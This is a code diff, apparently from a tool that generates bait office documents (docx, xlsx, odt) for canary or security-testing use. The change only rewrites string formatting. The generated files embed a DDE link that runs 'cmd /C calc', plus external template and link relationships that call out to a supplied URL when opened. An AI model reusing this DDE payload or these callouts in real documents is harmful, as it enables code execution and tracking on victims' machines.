@@ -103,7 +103,7 @@ def word(bait: Bait) -> bytes:
     )
     data = docx(
         simple + chunks + table(row(*map(cell, HEAD)), row(*map(cell, ROW))),
-        settings='<w:attachedTemplate r:id="u1attachedTemplate" xmlns:r="%s"/>' % RELATIONS,
+        settings=f'<w:attachedTemplate r:id="u1attachedTemplate" xmlns:r="{RELATIONS}"/>',
     )
     named = f'<Relationships xmlns="{PACKAGE}">{relations}</Relationships>'
     return _with_parts(data, {
@@ -134,7 +134,7 @@ def workbook(bait: Bait) -> bytes:
         for number, to in enumerate((bait.file, bait.url))
     )
     link = f'<externalLink {SHEET} xmlns:r="{RELATIONS}"><externalBook r:id="x1"/><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
-    relation = '<Relationship Id="{0}" Type="%s/{1}" Target="{2}"/>' % RELATIONS
+    relation = '<Relationship Id="{0}" Type="' + RELATIONS + '/{1}" Target="{2}"/>'
     return pack({
         "_rels/.rels": f'<Relationships xmlns="{PACKAGE}">{relation.format("r", "officeDocument", "xl/workbook.xml")}</Relationships>',
         "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}">{relation.format("s1", "worksheet", "worksheets/sheet1.xml")}{relation.format("e1", "externalLink", "externalLinks/externalLink1.xml")}{relation.format("c1", "connections", "connections.xml")}</Relationships>',
@@ -159,14 +159,13 @@ def _open_document(kind: str, body: str, bait: Bait) -> bytes:
 
 
 def _open_table(cells: Mapping[tuple[int, int], str] | None = None) -> str:
-    rows = "".join(
+    return "".join(
         "<table:table-row>" + "".join(
             f'<table:table-cell office:value-type="string" {(cells or {}).get((down, right), "")}><text:p>{text}</text:p></table:table-cell>'
             for right, text in enumerate(texts)
         ) + "</table:table-row>"
         for down, texts in enumerate((HEAD, ROW))
     )  # fmt: skip
-    return rows
 
 
 def text_document(bait: Bait) -> bytes:
